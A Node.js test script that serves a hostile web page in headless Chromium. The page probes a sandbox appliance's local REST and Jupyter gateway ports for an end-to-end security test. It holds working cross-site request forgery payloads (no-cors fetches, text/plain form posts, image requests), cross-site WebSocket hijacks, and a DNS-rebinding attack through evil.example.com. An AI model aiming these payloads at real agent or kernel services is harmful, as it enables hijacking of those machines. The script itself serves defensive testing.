// A hostile page in Debian's headless Chromium (playwright-core) attacks the appliance's ports the way a
// web page the agent opens inside the VM could, and prints one JSON object saying what the page could
// observe. The xunit test (tests/Sandbox.E2E/Security/BrowserAttackTests) checks the effects independently
// (pointer position with xdotool, kernels, recording state).
//   node attacker.mjs REST_URL GATEWAY_URL KERNEL_ID
// The page is served from http://localhost:<random port> (another site than 127.0.0.1) by this script; a DNS
// rebinding attack is simulated with Chromium's host resolver rules (evil.example.com → 127.0.0.1).
import { chromium } from 'playwright-core';
import { createServer } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const [rest, gateway, kernelId] = process.argv.slice(2);
const page_html = '<!doctype html><title>attacker</title><body><iframe name="sink"></iframe></body>';
const server = createServer((req, res) => { res.writeHead(200, { 'Content-Type': 'text/html' }); res.end(page_html); });
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const attackerOrigin = `http://localhost:${server.address().port}`;

const profile = mkdtempSync(join(tmpdir(), 'sandbox-attacker-'));
const context = await chromium.launchPersistentContext(profile, {
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  headless: true,
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', '--host-resolver-rules=MAP evil.example.com 127.0.0.1'],
  timeout: 60_000,
});
const result = { attacker_origin: attackerOrigin, attacks: {} };
try {
  const page = context.pages()[0] || await context.newPage();
  await page.goto(attackerOrigin + '/');
  const attack = async (name, fn, arg) => {
    try { result.attacks[name] = await page.evaluate(fn, arg); } catch (e) { result.attacks[name] = { error: String(e) }; }
  };
  const action = JSON.stringify({ action: 'mouse_move', coordinate: [7, 7] });

  // "Simple" requests: no preflight, the browser sends them and only hides the answer.
  await attack('simple_post_action', async ([url, body]) => {
    const r = await fetch(url + '/computer/action', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body });
    return { sent: true, type: r.type };
  }, [rest, action]);
  await attack('cors_post_action', async ([url, body]) => {
    try { const r = await fetch(url + '/computer/action', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body }); return { status: r.status }; }
    catch (e) { return { blocked: String(e) }; }
  }, [rest, action]);
  await attack('form_post_action', async ([url, body]) => {
    const f = document.createElement('form');
    f.method = 'POST'; f.action = url + '/computer/action'; f.target = 'sink'; f.enctype = 'text/plain';
    const i = document.createElement('input'); i.name = body; i.value = ''; f.appendChild(i);
    document.body.appendChild(f); f.submit();
    await new Promise((r) => setTimeout(r, 1500));
    return { submitted: true };
  }, [rest, action]);
  await attack('img_record_start', async (url) => {
    const img = new Image();
    const done = new Promise((r) => { img.onload = () => r('load'); img.onerror = () => r('error'); });
    img.src = url + '/record?mode=start';
    return { event: await done };
  }, rest);
  await attack('nocors_post_kernels', async (url) => {
    const r = await fetch(url + '/api/kernels', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
    return { sent: true, type: r.type };
  }, gateway);
  const wsAttack = (url) => new Promise((resolve) => {
    const out = { opened: false, messages: 0 };
    let ws;
    try { ws = new WebSocket(url); } catch (e) { resolve({ error: String(e) }); return; }
    ws.onopen = () => { out.opened = true; };
    ws.onmessage = () => { out.messages++; };
    ws.onclose = (e) => { out.close_code = e.code; };
    setTimeout(() => { try { ws.close(); } catch { } resolve(out); }, 3000);
  });
  await attack('ws_view_stream', wsAttack, rest.replace('http', 'ws') + '/view/stream');
  await attack('ws_kernel_channels', wsAttack, gateway.replace('http', 'ws') + `/api/kernels/${kernelId}/channels`);

  // DNS rebinding: the page's own name now resolves to 127.0.0.1, so its requests are same-origin to it
  // and carry Host: evil.example.com.
  const gwPort = new URL(gateway).port, restPort = new URL(rest).port;
  for (const [name, port, path, body] of [
    ['rebind_gateway_kernels', gwPort, '/api/kernels', '{}'],
    ['rebind_rest_action', restPort, '/computer/action', action]]) {
    try {
      const evil = `http://evil.example.com:${port}`;
      const nav = await page.goto(evil + '/', { waitUntil: 'domcontentloaded' });
      const status = nav ? nav.status() : null;
      result.attacks[name] = await page.evaluate(async ([p, b, navStatus]) => {
        const r = await fetch(p, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: b });
        return { page_status: navStatus, status: r.status, body: (await r.text()).slice(0, 300) };
      }, [path, body, status]);
    } catch (e) { result.attacks[name] = { error: String(e) }; }
  }
} finally {
  await context.close();
  server.close();
  rmSync(profile, { recursive: true, force: true });
}
console.log(JSON.stringify(result));
